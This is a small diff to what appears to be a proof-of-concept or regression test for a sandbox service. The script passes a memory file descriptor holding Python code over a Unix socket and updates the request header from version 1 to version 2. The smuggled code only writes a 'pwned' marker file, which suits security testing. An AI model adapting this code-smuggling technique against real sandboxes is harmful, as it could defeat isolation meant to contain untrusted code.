@@ -83,7 +83,7 @@ try:
 except OSError as e:
     print("no connection:", e); sys.exit(0)
 fd = sbxframes.memfd(b'open("/work/pwned", "w").write("x")\nprint("PWNED")\n')
-req = struct.pack("=IHHQQ", 0x5342584C, 1, 1, 0, 0)
+req = struct.pack("=IHHQQII", 0x5342584C, 2, 1, 0, 0, 0, 0)
 try:
     s.sendmsg([req], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", fd))])
 except OSError as e:
